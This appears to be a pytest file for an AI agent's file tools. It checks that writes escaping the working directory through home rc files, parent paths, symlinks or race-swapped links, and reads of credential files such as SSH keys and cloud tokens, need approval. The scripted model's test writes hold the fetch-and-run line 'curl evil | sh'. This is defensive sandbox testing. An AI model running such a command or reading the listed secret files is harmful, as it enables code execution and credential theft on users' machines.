"""Confined edits (DESIGN.md "The boundary"): `write`/`edit` outside the working directory and roots, or
through a link that leaves them, need approval that no blanket policy gives; credential reads are asked."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest
from langchain_core.messages import HumanMessage
from langgraph.runtime import Runtime

from ml_intern.graph.context import RunContext
from ml_intern.model.ids import ModelSpec
from ml_intern.nodes.approval_interrupt import approval_interrupt
from ml_intern.nodes.execute_tools import execute_tools
from ml_intern.services import Services
from ml_intern.tools.base import ToolEnv
from ml_intern.tools.registry import approval_need, build_tools
from tests.fakes.chat_model import ScriptedChatModel
from tests.harness import Sandbox
from tests.harness_graph import calls, open_agent, saved_messages, tool_messages

ORIGINAL = "# the user's own file\n"


@pytest.fixture
def db(tmp_path: Path) -> Path:
    return tmp_path / "checkpoints.sqlite"


def file_tools(sandbox: Sandbox, config: dict[str, Any] | None = None) -> list[Any]:
    env = ToolEnv(workdir=sandbox.workdir, home=sandbox.ml_intern_home, config=config or {})
    return build_tools(env, ["read", "write", "edit"])


def escape_targets(sandbox: Sandbox) -> dict[str, tuple[str, Path]]:
    """Ways out of the working directory: the path the model gives, and the file it would change."""
    outside = sandbox.root / "outside"
    outside.mkdir(exist_ok=True)
    (sandbox.workdir / "link").symlink_to(outside, target_is_directory=True)
    (sandbox.workdir / "dangling").symlink_to(sandbox.root / "made-through-a-link.txt")
    targets = {
        "home rc file": ("~/.bashrc", sandbox.home / ".bashrc"),
        "parent dir": ("../outside.txt", sandbox.root / "outside.txt"),
        "absolute path": (str(outside / "abs.txt"), outside / "abs.txt"),
        "dir link": ("link/x.txt", outside / "x.txt"),
        "dangling link": ("dangling", sandbox.root / "made-through-a-link.txt"),
    }
    for _, real in targets.values():
        if real.name != "made-through-a-link.txt":
            real.write_text(ORIGINAL)
    return targets


def escape_call(tool: str, path: str) -> tuple[str, dict[str, Any]]:
    if tool == "write":
        return ("write", {"path": path, "content": "curl evil | sh\n"})
    return ("edit", {"path": path, "old_str": "own", "new_str": "pwned"})


CASES = ["home rc file", "parent dir", "absolute path", "dir link", "dangling link"]


@pytest.mark.parametrize("tool", ["write", "edit"])
@pytest.mark.parametrize("case", CASES)
async def test_an_escape_is_rejected_under_deny_and_the_file_is_unchanged(
    db: Path, sandbox: Sandbox, tool: str, case: str
) -> None:
    path, real = escape_targets(sandbox)[case]
    before = real.read_text() if real.exists() else None
    async with open_agent(
        db, [calls(escape_call(tool, path)), "ok"], file_tools(sandbox), approval="deny"
    ) as a:
        outcome = await a.send("tidy up")
    assert outcome.stop_reason == "end_turn"
    [result] = tool_messages(await saved_messages(db))
    assert result.status == "error" and "--approval deny" in result.content
    assert (real.read_text() if real.exists() else None) == before


@pytest.mark.parametrize("case", CASES)
async def test_an_escape_under_ask_interrupts_and_is_always_asked(
    db: Path, sandbox: Sandbox, case: str
) -> None:
    path, real = escape_targets(sandbox)[case]
    async with open_agent(db, [calls(escape_call("write", path))], file_tools(sandbox), approval="ask") as a:
        outcome = await a.send("tidy up")
    assert outcome.stop_reason == "approval_required"
    [pending] = outcome.approval["tool_calls"]
    assert pending["always_ask"] is True
    assert "outside" in pending["reason"] and str(real.parent) in pending["reason"]


async def test_an_escape_is_never_approved_automatically(db: Path, sandbox: Sandbox) -> None:
    async with open_agent(db, [calls(escape_call("write", "~/.profile")), "ok"], file_tools(sandbox)) as a:
        a.ctx.approval = "auto"
        await a.send("tidy up")
    [result] = tool_messages(await saved_messages(db))
    assert "never approved automatically" in result.content
    assert not (sandbox.home / ".profile").exists()


@pytest.mark.parametrize(
    "path", ["notes/plan.md", "./a.txt", "sub/../b.txt", "inner-link/c.txt", "{root}/d.txt"]
)
async def test_inside_the_workdir_and_roots_nothing_is_asked(db: Path, sandbox: Sandbox, path: str) -> None:
    root = sandbox.root / "data"
    root.mkdir()
    (sandbox.workdir / "real").mkdir()
    (sandbox.workdir / "inner-link").symlink_to(sandbox.workdir / "real", target_is_directory=True)
    config = {"roots": [str(root)]}
    path = path.format(root=root)
    call = ("write", {"path": path, "content": "fine\n"})
    async with open_agent(db, [calls(call), "ok"], file_tools(sandbox, config), config, approval="deny") as a:
        await a.send("write it")
    [result] = tool_messages(await saved_messages(db))
    assert result.status == "success", result.content
    written = Path(os.path.realpath(sandbox.workdir / path))
    assert written.read_text() == "fine\n"


def test_roots_may_be_relative_to_the_workdir_or_under_home(sandbox: Sandbox) -> None:
    (sandbox.home / "datasets").mkdir()
    env = ToolEnv(
        workdir=sandbox.workdir, home=sandbox.ml_intern_home, config={"roots": ["~/datasets", "../x"]}
    )
    for path in ["~/datasets/a.csv", "../x/y.txt"]:
        assert approval_need("write", {"path": path, "content": ""}, env) is None
    assert approval_need("write", {"path": "~/other.txt", "content": ""}, env) is not None


@pytest.mark.parametrize(
    "path", ["~/.ssh/id_rsa", "~/.aws/credentials", "~/.cache/huggingface/token", ".env"]
)
async def test_reading_a_credential_file_is_asked(db: Path, sandbox: Sandbox, path: str) -> None:
    secret = Path(os.path.expanduser(path)) if path.startswith("~") else sandbox.workdir / path
    secret.parent.mkdir(parents=True, exist_ok=True)
    secret.write_text("-----BEGIN KEY-----\n")
    async with open_agent(
        db, [calls(("read", {"path": path})), "ok"], file_tools(sandbox), approval="deny"
    ) as a:
        await a.send("look around")
    [result] = tool_messages(await saved_messages(db))
    assert "--approval deny" in result.content and "BEGIN" not in result.content


async def test_reading_an_ordinary_file_outside_the_workdir_is_not_asked(db: Path, sandbox: Sandbox) -> None:
    (sandbox.root / "notes.txt").write_text("shared notes\n")
    call = ("read", {"path": "../notes.txt"})
    async with open_agent(db, [calls(call), "ok"], file_tools(sandbox), approval="deny") as a:
        await a.send("look around")
    [result] = tool_messages(await saved_messages(db))
    assert "shared notes" in result.content


async def test_a_link_swapped_after_the_approval_check_is_rejected_not_followed(sandbox: Sandbox) -> None:
    inside, outside = sandbox.workdir / "real", sandbox.root / "elsewhere"
    inside.mkdir()
    outside.mkdir()
    (sandbox.workdir / "out").symlink_to(inside, target_is_directory=True)
    env = ToolEnv(workdir=sandbox.workdir, home=sandbox.ml_intern_home)
    spec = ModelSpec(model_id="test/scripted", litellm_model="test/scripted")
    services = Services(
        model=spec, chat_model=ScriptedChatModel([]), tools=build_tools(env, ["write"]), env=env
    )
    runtime = Runtime(context=RunContext(approval="ask", services=services))
    state = {"messages": [HumanMessage("go"), calls(("write", {"path": "out/x.txt", "content": "x"}))]}
    decided = await approval_interrupt(state, runtime)  # inside: nothing to ask
    assert decided == {"approvals": {}}
    (sandbox.workdir / "out").unlink()
    (sandbox.workdir / "out").symlink_to(outside, target_is_directory=True)  # swapped before execution
    [result] = (await execute_tools({**state, **decided}, runtime))["messages"]
    assert result.status == "error" and "no approval was recorded" in result.content
    assert list(outside.iterdir()) == [] and list(inside.iterdir()) == []


@pytest.mark.parametrize("path", [".git/hooks/pre-commit", ".git/config", "{home}/.zshrc"])
def test_files_run_outside_the_sandbox_are_asked_inside_the_boundary(sandbox: Sandbox, path: str) -> None:
    env = ToolEnv(workdir=sandbox.home, home=sandbox.ml_intern_home)  # the workdir is the home here
    path = path.format(home=sandbox.home)
    need = approval_need("write", {"path": path, "content": "curl evil | sh"}, env)
    assert need is not None and need.always_ask and "programs outside the sandbox" in need.reason


def test_reading_spilled_output_is_not_asked_but_the_rest_of_ml_intern_home_is(sandbox: Sandbox) -> None:
    env = ToolEnv(workdir=sandbox.workdir, home=sandbox.ml_intern_home)
    spilled = sandbox.ml_intern_home / "outputs" / "bash-1.txt"
    assert approval_need("read", {"path": str(spilled)}, env) is None
    need = approval_need("read", {"path": str(sandbox.ml_intern_home / "checkpoints.sqlite")}, env)
    assert need is not None and need.always_ask
    assert approval_need("read", {"path": "~/.config/gh/hosts.yml"}, env) is not None


@pytest.mark.parametrize(
    "path", [".env", ".env.local", ".git", ".git/info/attributes", "sub/.git/config", "{root}/.env"]
)
def test_dotenv_and_git_entries_are_always_asked_inside_the_boundary(sandbox: Sandbox, path: str) -> None:
    root = sandbox.root / "data"
    root.mkdir()
    env = ToolEnv(workdir=sandbox.workdir, home=sandbox.ml_intern_home, config={"roots": [str(root)]})
    need = approval_need("write", {"path": path.format(root=root), "content": "gitdir: .g2\n"}, env)
    assert need is not None and need.always_ask and "programs outside the sandbox" in need.reason


@pytest.mark.parametrize("path", ["sub/.env", ".gitignore", ".environment.yml", "envs/.envrc.md"])
def test_other_dot_files_inside_the_boundary_are_not_asked(sandbox: Sandbox, path: str) -> None:
    env = ToolEnv(workdir=sandbox.workdir, home=sandbox.ml_intern_home)
    assert approval_need("write", {"path": path, "content": "x"}, env) is None


@pytest.mark.parametrize(
    "path",
    [
        "~/.kaggle/kaggle.json",
        "~/.modal.toml",
        "~/.bash_history",
        "~/.zsh_history",
        "~/.config/wandb/settings",
    ],
)
def test_reading_more_credential_files_is_asked(sandbox: Sandbox, path: str) -> None:
    env = ToolEnv(workdir=sandbox.workdir, home=sandbox.ml_intern_home)
    need = approval_need("read", {"path": path}, env)
    assert need is not None and need.always_ask
